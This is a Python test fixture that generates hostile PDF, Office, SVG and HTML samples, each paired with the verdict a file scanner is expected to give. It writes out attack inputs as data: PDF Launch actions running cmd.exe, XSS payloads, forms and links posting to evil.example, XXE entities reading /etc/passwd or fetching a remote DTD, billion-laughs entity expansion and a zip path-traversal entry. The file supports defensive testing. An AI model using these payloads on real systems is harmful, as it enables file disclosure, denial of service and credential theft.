"""PDF and office files that act, and web pages and drawings that call themselves something else."""

from collections.abc import Iterator

from tests.desk.evidence.hostile.archives import packed
from tests.desk.evidence.hostile.sample import Sample

ACTS = {
    "javascript": (b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", "javascript"),
    "javascript in hex": (b"/S/#4aavaScr#69pt/J#53(x)", "javascript"),
    "names of scripts": (b"/Names<</JavaScript 5 0 R>>", "javascript"),
    "launch": (b"/A<</S/Launch/F(cmd.exe)>>", "launch"),
    "launch in hex": (b"/A<</S/L#61unch/Win<</F(cmd.exe)>>>>", "launch"),
    "open action": (b"/OpenAction 7 0 R", "open_action"),
    "additional actions": (b"/AA<</O 7 0 R>>", "open_action"),
    "embedded file": (b"/Type/EmbeddedFile", "embedded_file"),
    "embedded files": (b"/Names<</EmbeddedFiles 4 0 R>>", "embedded_file"),
    "rich media": (b"/Subtype/RichMedia", "embedded_file"),
    "link": (b"/A<</S/URI/URI(http://evil.example)>>", "links_out"),
    "submits": (b"/A<</S/SubmitForm/F(http://evil.example)>>", "submits_form"),
    "imports": (b"/A<</S/ImportData/F(x)>>", "submits_form"),
    "other document": (b"/A<</S/GoToR/F(\\\\\\\\evil\\\\share)>>", "outside_reference"),
    "embedded document": (b"/A<</S/GoToE>>", "outside_reference"),
    "xfa form": (b"/AcroForm<</XFA 9 0 R>>", "script"),
    "encrypted": (b"/Encrypt 3 0 R", "encrypted"),
    "packed objects": (b"/Type/ObjStm/N 9/First 40", "packed_objects"),
}
DRAWINGS = {
    "script": b"<script>alert(1)</script>",
    "namespaced script": b'<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
    "event": b'<rect onload="alert(1)"/>',
    "foreign object": b"<foreignObject><iframe src='javascript:alert(1)'/></foreignObject>",
    "link": b'<a xlink:href="javascript:alert(1)"><text>x</text></a>',
    "picture from outside": b'<image href="http://evil.example/a.png"/>',
    "style from outside": b"<style>@import url(//evil.example/a.css);</style>",
    "use": b'<use href="data:image/svg+xml;base64,AAAA#x"/>',
    "animation": b'<animate attributeName="href" values="javascript:alert(1)"/>',
    "handler": b'<handler type="text/ecmascript">alert(1)</handler>',
    "data block": b"<![CDATA[ <script>alert(1)</script> ]]>",
}
LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10))
PROLOGUES = {
    "outer entity": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:/etc/passwd">]>',
    "parameter entity": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
    "billion laughs": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "ha">' + LAUGHS + b"]>",
    "quadratic": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "' + b"a" * 50_000 + b'">]>',
}
PAGES = {
    "plain": b"<html><script>alert(1)</script></html>",
    "doctype": b"<!DOCTYPE html><title>x</title><img src=x onerror=alert(1)>",
    "comment first": b"<!-- a picture, truly --><script>alert(1)</script>",
    "byte order mark": b"\xef\xbb\xbf<script>alert(1)</script>",
    "blanks first": b" \r\n\t" * 9 + b"<html>",
    "text first": b"a picture <script>alert(1)</script>",
    "capitals": b"<HTML><BODY ONLOAD=alert(1)>",
    "utf-16": "\ufeff<html><script>alert(1)</script>".encode("utf-16-le"),
    "frame": b'<iframe src="javascript:alert(1)">',
    "form": b"<form action=http://evil.example><input name=password>",
    "refresh": b'<meta http-equiv=refresh content="0;url=http://evil.example">',
    "style sheet": b'<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.xsl"?><x/>',
}
OFFICE = {
    "macros": ("word/vbaProject.bin", "macros"),
    "macro data": ("word/vbaData.xml", "macros"),
    "embedded object": ("word/embeddings/oleObject1.bin", "embedded_file"),
    "control": ("word/activeX/activeX1.bin", "embedded_file"),
    "old macros": ("xl/macrosheets/sheet1.xml", "macros"),
    "outer workbook": ("xl/externalLinks/externalLink1.xml", "outside_reference"),
    "query": ("xl/connections.xml", "outside_reference"),
    "program": ("word/media/setup.exe", "programs_inside"),
    "archive": ("word/media/a.zip", "nested_archive"),
}


def pdf(body: bytes, tail: bytes = b"%%EOF\n") -> bytes:
    """A small PDF with this in its catalogue."""
    catalogue = b"1 0 obj<</Type/Catalog/Pages 2 0 R" + body + b">>endobj\n"
    pages = b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R>>endobj\n"
    return b"%PDF-1.7\n" + catalogue + pages + b"trailer<</Root 1 0 R>>\nstartxref\n0\n" + tail


def documents() -> Iterator[Sample]:
    """PDF and office files."""
    for label, (body, finding) in ACTS.items():
        yield Sample(f"pdf: {label}", "a.pdf", pdf(body), f"opaque:{finding}")
    yield Sample("pdf: claims a billion pages", "a.pdf", pdf(b"/Count 999999999"), "refused:too_many_pages")
    yield Sample("pdf: 6,000 pages", "a.pdf", pdf(b"") + b"<</Type /Page>>" * 6000 + b"%%EOF", "refused:too_many_pages")
    yield Sample("pdf: no end", "a.pdf", pdf(b"", tail=b""), "opaque:damaged")
    yield Sample("pdf: no version", "a.pdf", b"%PDF-\n" + pdf(b"")[9:], "refused:broken")
    for label, (inside, finding) in OFFICE.items():
        folder = inside.partition("/")[0]
        files = (("[Content_Types].xml", b"<Types/>"), (f"{folder}/document.xml", b"<x/>"), (inside, b"x"))
        ending = {"word": "docx", "xl": "xlsx"}[folder]
        yield Sample(f"{ending}: {label}", f"a.{ending}", packed(*files), f"opaque:{finding}")
        yield Sample(f"{ending}: {label}, as picture", "a.png", packed(*files), "opaque:name_differs")
    for label, prologue in PROLOGUES.items():
        files = (("[Content_Types].xml", b"<Types/>"), ("word/document.xml", prologue + b"<svg>&x;</svg>"))
        yield Sample(f"docx: {label}", "a.docx", packed(*files), "opaque")
    yield Sample(
        "docx: escapes", "a.docx", packed(("[Content_Types].xml", b""), ("word/../../a", b"")), "refused:leaves_folder"
    )
    for ending in ("doc", "xls", "ppt", "msg"):
        old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
        yield Sample(f"old office file .{ending}", f"a.{ending}", old, "refused:unknown")


def samples() -> Iterator[Sample]:
    """Documents, drawings and pages, under their own names and under others."""
    yield from documents()
    drawings = {
        label: b'<svg xmlns="http://www.w3.org/2000/svg">' + body + b"</svg>" for label, body in DRAWINGS.items()
    }
    drawings |= {label: body + b"<svg>&x;</svg>" for label, body in PROLOGUES.items()}
    for label, body in drawings.items():
        yield Sample(f"svg: {label}", "a.svg", body, "opaque:active")
        yield Sample(f"svg as jpg: {label}", "a.jpg", body, "refused:masked")
    for label, body in PAGES.items():
        yield Sample(f"page: {label}", "a.html", body, "opaque:active")
        yield Sample(f"page as jpg: {label}", "a.jpg", body, "refused:masked")
        yield Sample(f"page as pdf: {label}", "a.pdf", body, "refused:masked")
        yield Sample(f"page as text: {label}", "a.txt", body, "opaque:active")
